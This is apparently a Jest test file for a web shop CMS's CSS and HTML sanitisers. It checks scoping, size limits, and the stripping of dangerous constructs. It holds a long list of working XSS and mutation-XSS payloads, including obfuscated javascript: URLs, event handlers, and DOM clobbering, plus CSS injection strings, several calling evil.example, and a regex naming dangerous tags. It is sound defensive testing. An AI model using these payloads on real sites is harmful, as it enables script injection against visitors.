import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { describe, expect, test } from '@jest/globals';
import { maxCssLength, sanitiseCss, sanitiseStyleAttribute } from '../../../providers/content/sanitise-css.ts';
import { sanitiseHtml } from '../../../providers/content/render-text.ts';

describe('sanitise css', () => {
  const run = promisify(execFile);
  const sanitised = (css: string) => sanitiseCss(css, 'cms-x');

  describe('a rule holds only within its own box', () => {
    test.each([
      ['p{color:red}', '.cms-x p{color:red}'],
      ['p,.a>b{color:red}', '.cms-x p,.cms-x .a>b{color:red}'],
      ['body{color:red}', '.cms-x{color:red}'],
      [':root>p,html p{color:red}', '.cms-x>p,.cms-x p{color:red}'],
      ['*|*{color:red}', '.cms-x *|*{color:red}'],
      ['#top{color:red}', '.cms-x #cms-top{color:red}'],
      ['@media (width < 600px){p{color:red}}', '@media (width<600px){.cms-x p{color:red}}'],
      [
        '@supports (display:grid){@media print{body{color:red}}}',
        '@supports (display:grid){@media print{.cms-x{color:red}}}',
      ],
      [
        '@keyframes in{from{opacity:0}}p{animation:in 1s}',
        '@keyframes cms-x-in{from{opacity:0}}.cms-x p{animation:cms-x-in 1s}',
      ],
    ])('%s', (css, expected) => {
      expect(sanitised(css)).toBe(expected);
    });

    test.each([
      ['body + p{color:red}', '.cms-x body+p{color:red}'],
      ['html ~ div{color:red}', '.cms-x html~div{color:red}'],
      ['+ p{color:red}', ''],
      ['> p{color:red}', ''],
      ['~ p{color:red}', ''],
      ['&{color:red}', ''],
      [':not(&){color:red}', ''],
      ['p{:not(&){color:red}}', ''],
      ['p{color:red;+ div{color:red}}', '.cms-x p{color:red}'],
    ])('%s names no one outside the shop’s template', (css, expected) => {
      expect(sanitised(css)).toBe(expected);
    });
  });

  describe('nothing in it fetches, runs, covers the page or ends its element', () => {
    test.each([
      '@import "https://evil.example/x.css";',
      '@import url(https://evil.example/x.css);',
      '@charset "utf-7";',
      '@namespace x url(https://evil.example);',
      '@font-face{font-family:x;src:url(https://evil.example/x.woff)}',
      '@layer x{p{color:red}}',
      '@property --x{syntax:"*";inherits:false}',
      '@page{margin:0}',
      'p{background:url(javascript:alert(1))}',
      'p{background:url("java\\73 cript:alert(1)")}',
      'p{background:url(//evil.example/x)}',
      'p{background:url(data:image/svg+xml;base64,PHN2Zz4=)}',
      'p{background:image-set("https://evil.example/x" 1x)}',
      'p{background:src("https://evil.example/x")}',
      'p{background:element(#x)}',
      'p{content:attr(title)}',
      'p{--x:url(javascript:alert(1))}',
      'p{--x:expression(alert(1))}',
      'p{width:expression(alert(1))}',
      'p{w\\69 dth:expression(alert(1))}',
      'p{behavior:url(x.htc)}',
      'p{-moz-binding:url(x.xml#y)}',
      'p{position:fixed}',
      'p{position:sticky}',
      'p{position:-webkit-sticky}',
      'p{POSITION:FiXeD !important}',
      'p{pos\\69tion:fixed}',
      'p{position:fi\\78 ed}',
      'p{position:var(--p)}',
      'p{nonsense:1px}',
      'p{color:}',
      '<script>alert(1)</script>',
      '@media url(https://evil.example) {p{color:red}}',
    ])('%s', (css) => {
      expect(sanitised(css)).toBe('');
    });

    test('a text cannot end its style element', () => {
      expect(sanitised('p{content:"</style><script>alert(1)</script>"}')).not.toContain('</');
      expect(sanitised('p{background:url("</style>")}')).not.toContain('</');
      expect(sanitised('.\\</style{color:red}')).not.toContain('</');
    });

    test('what cannot be read is left out, and the rest stays', () => {
      expect(sanitised('p{color:red;oops;margin:0} }{ q{color:blue} <!-- b{color:green} -->')).toContain('color:red');
      expect(sanitised('{{x}} p{color:red')).toBe('.cms-x p{color:red}');
    });

    test('pictures of the web and of the shop stay', () => {
      expect(sanitised('p{background:url(https://shop.example/x.png)}')).toBe(
        '.cms-x p{background:url(https://shop.example/x.png)}',
      );
      expect(sanitised('p{background:url(/media/x.png) no-repeat}')).toContain('/media/x.png');
    });
  });

  test('sanitising twice gives the same as once', () => {
    const css = 'p{color:red}@media print{body>p{margin:0 auto}}@keyframes in{from{opacity:0}}b{animation:in 1s}';
    const once = sanitised(css);
    expect(sanitiseCss(once, 'y').replaceAll('.y ', '').replaceAll('y-', '')).toBe(once);
  });

  test('a style attribute keeps what CSS knows', () => {
    expect(sanitiseStyleAttribute('color:red; behavior:url(x); POSITION: fixed; margin:0')).toBe('color:red;margin:0');
  });

  test('a sheet of more than 20 000 rules and declarations is turned away, whatever they are', () => {
    const refusal = 'The styles must not have more than %1 rules and declarations.';
    for (const part of ['a:b;', '!;', 'p{}', '}']) expect(() => sanitised(part.repeat(20_001))).toThrow(refusal);
    expect(sanitised(`p{${'a:b;'.repeat(9_000)}top:0}`)).toBe('.cms-x p{top:0}');
  });

  test('what is too much for the parser is left out, and it says nothing on standard error', async () => {
    const page = new URL('../../../providers/content/render-worker.ts', import.meta.url);
    const script = `
    import(process.argv[1]).then(({ default: rendered }) => {
      const job = { html: 'x', css: 'p{top:0;font:' + 'a '.repeat(100000) + '}', blocks: new Map(), settings: new Map() };
      console.log(JSON.stringify(rendered({ number: 1, job })));
    });`;
    const { stdout, stderr } = await run(process.execPath, ['-e', script, String(page)]);
    expect(JSON.parse(stdout).text.css).toMatch(/^\.cms-\w{12} p\{top:0\}$/);
    expect(stderr).toBe('');
  });

  test('a sheet too long or nested too deep is turned away', () => {
    expect(() => sanitised('p{}'.repeat(maxCssLength))).toThrow('The styles must not be longer than %1 characters.');
    for (const deep of ['p{width:'.concat('('.repeat(100_000)), '@media print{'.repeat(10_000), '['.repeat(200_000)]) {
      expect(() => sanitised(deep)).toThrow('The styles must not be nested more than %1 deep.');
    }
  });
});

describe('sanitise html', () => {
  /**
   * Each runs a script, or reaches out, in some browser that is still in use: OWASP's, html5sec's and mutation ones.
   */
  const vectors: readonly string[] = [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<<script>alert(1)//<</script>',
    '<script/x>alert(1)</script/x>',
    '<img src=x onerror=alert(1)>',
    '<img src=x onerror\n=\nalert(1)>',
    '<img/src=x/onerror=alert(1)>',
    '<img """><script>alert(1)</script>">',
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<body onload=alert(1)>',
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4="></svg>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;vascript&colon;alert(1)">x</a>',
    '<a href="javascript&#0000058alert(1)">x</a>',
    '<a href="java\u0000script:alert(1)">x</a>',
    '<a href="\u00a0javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="/\\evil.example">x</a>',
    '<a href="\\\\evil.example">x</a>',
    '<a href="x" onclick="alert(1)" onfocus=alert(1) autofocus>x</a>',
    '<a href="https://x" target="opener" rel="opener">x</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<applet code=x></applet>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<style>@import "https://evil.example/x.css"</style>',
    '<style><img src="</style><img src=x onerror=alert(1)//">',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<div style="behavior:url(x.htc)">x</div>',
    '<div style="-moz-binding:url(https://evil.example/x.xml#y)">x</div>',
    '<div style="position:fixed;inset:0">x</div>',
    '<div style="pos\\69tion:fi\\78 ed">x</div>',
    '<div style="--p:fixed;position:var(--p)">x</div>',
    '<div style="color:red\u0022 onmouseover=\u0022alert(1)">x</div>',
    '<form action="https://evil.example"><input name=card><button formaction="javascript:alert(1)">x</button></form>',
    '<textarea><img src=x onerror=alert(1)></textarea>',
    '<title><img src=x onerror=alert(1)></title>',
    '<xmp><img src=x onerror=alert(1)></xmp>',
    '<noembed><img src=x onerror=alert(1)></noembed>',
    '<plaintext><img src=x onerror=alert(1)>',
    '<template><img src=x onerror=alert(1)></template>',
    '<select><option><style><script>alert(1)</script></style></select>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<?xml version="1.0"?><script>alert(1)</script>',
    '<video><source onerror=alert(1) src=x></video>',
    '<video poster=javascript:alert(1)></video>',
    '<audio src=javascript:alert(1) onloadstart=alert(1)></audio>',
    '<details open ontoggle=alert(1)><summary>x</summary></details>',
    '<marquee onstart=alert(1)>x</marquee>',
    '<img srcset="javascript:alert(1) 1x, x.png 2x">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img name=cookie id=cookie src=x>',
    '<a id=document name=location href=x>x</a>',
    '<p data-mage-init=\'{"x":{}}\' x-on:click="alert(1)" @click="alert(1)" v-html="x">x</p>',
    '<div is="x-evil" slot=x part=y ping=https://evil.example>x</div>',
    '<table background="javascript:alert(1)"><td background="https://evil.example/x">x</table>',
    '<p title="</p><script>alert(1)</script>">x',
    '<x/onclick=alert(1)>x',
    '<a href=javas&#99;ript:alert(1)><b>x',
    '\u2028<img\u000csrc=x\u000conerror=alert(1)>',
  ];

  const running =
    /<\/?(?:script|style|svg|math|iframe|object|embed|applet|base|meta|link|form|input|button|textarea|select|template|title|xmp|noembed|noscript|plaintext|marquee)\b|\son\w+\s*=|javascript:|vbscript:|data:text|data:image\/svg|expression\(|behavior|binding|position:\s*(?:fixed|var)|\\[0-9a-f]|srcdoc|formaction|\sname=|data-mage|\bping=|\bis=|\sx-on|v-html|@click|<!--|<!\[|<\?/i;

  /** What a browser would see as tags: text that is only written like one is escaped. */
  const tagsOf = (html: string) => (html.match(/<[^>]*>/g) ?? []).join('').replaceAll(/title="[^"]*"|alt="[^"]*"/g, '');

  describe('an editor’s text is shown and never run', () => {
    test.each(vectors)('%s', (vector) => {
      for (const around of [vector, `<p>${vector}</p>`, `<table><tr><td>${vector}`, `<a title="${vector}">x</a>`]) {
        const html = sanitiseHtml(around);
        expect(tagsOf(html)).not.toMatch(running);
        expect(html).not.toMatch(/=["']?\s*(?:\/\/|\/\\|\\)/);
        expect(sanitiseHtml(html)).toBe(html);
      }
    });
  });

  describe('harmless HTML stays', () => {
    test.each([
      ['<h1 class="big">Welcome</h1><p>Tea &amp; <b>cake</b></p>'],
      ['<img src="https://shop.example/cake.jpg" alt="A cake" width="200" />'],
      ['<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot" />'],
      [
        '<table><thead><tr><th scope="col">Day</th></tr></thead><tbody><tr><td ' +
          'colspan="2">Mon</td></tr></tbody></table>',
      ],
      ['<p style="color:red;text-align:center">Sale</p>'],
      ['<video src="/media/film.mp4" autoplay muted loop playsinline></video>'],
    ])('%s', (html) => {
      expect(sanitiseHtml(html)).toBe(html);
    });

    test('a link leads on and cannot reach back', () => {
      expect(sanitiseHtml('<a href="https://shop.example" target="_blank">x</a>')).toBe(
        '<a href="https://shop.example" target="_blank" rel="noopener noreferrer">x</a>',
      );
    });

    test('an id is the content’s own, and a link to it follows', () => {
      expect(sanitiseHtml('<a href="#hours">Hours</a><h2 id="hours">Hours</h2>')).toBe(
        '<a href="#cms-hours" rel="noopener noreferrer">Hours</a><h2 id="cms-hours">Hours</h2>',
      );
    });

    test('an open element is closed, so that it ends with the text', () => {
      expect(sanitiseHtml('<div><b>open')).toBe('<div><b>open</b></div>');
    });
  });

  test('a text of more tags than any page has is turned away before it is read', () => {
    expect(() => sanitiseHtml('<div>'.repeat(200_000))).toThrow('Content must not have more than %1 tags.');
  });
});
